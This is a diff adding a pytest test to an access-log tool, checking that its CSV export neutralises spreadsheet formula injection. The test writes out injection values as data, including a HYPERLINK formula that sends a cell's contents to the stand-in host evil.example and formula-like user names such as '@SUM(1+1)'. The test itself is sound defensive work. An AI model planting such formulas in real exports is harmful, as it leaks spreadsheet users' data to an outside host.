@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -15,6 +16,7 @@ from sip_desk.db.access_log import read_entries
 from sip_desk.db.append_only import append_only_statements
 from sip_desk.domain.access import AccessKind, AccessQuery
 from sip_desk.domain.plan import PlanDetail
+from sip_desk.services.audit import log_read
 from sip_desk.services.registry import Services
 from tests.builders import PlanBuilder
 from tests.services.follow_up_builders import FollowUpPlans
@@ -232,3 +234,25 @@ def test_dropped_append_only_triggers_are_recreated_when_the_store_is_opened(
         conn.execute(sql("DELETE FROM access_log WHERE id = 1"))
     with sqlite_services.ctx.db.read_connection() as conn:
         assert conn.execute(sql("SELECT count(*) FROM access_log WHERE id = 1")).scalar() == 1
+
+
+def test_log_csv_cells_a_spreadsheet_would_compute_are_shown_as_text(
+    store, sqlite_services, capsys
+):
+    """CSV injection: a user name, program or detail written to be run as a formula."""
+    db, alva, _ = store
+    link = '=HYPERLINK("https://evil.example/?d="&E2,"Öppna")'
+    forged = replace(sqlite_services.ctx, program="=1+1", command="")
+    log_read(forged, AccessKind.EXPORT, alva.id, alva.person.id, link)
+    run(["--db", db, "--user", "@SUM(1+1)", "check", str(alva.id)])
+    run(["--db", db, "--user=-2+3", "check", str(alva.id)])
+    capsys.readouterr()
+
+    assert run(["--db", db, "--lang", "en", "log", "--csv"]) == 0
+
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))[1:]
+    export = next(r for r in rows if r[5] != "cli check" and r[6])
+    assert (export[5], export[6]) == ("'=1+1", "'" + link)
+    assert {r[1] for r in rows} >= {"'@SUM(1+1)", "'-2+3"}
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
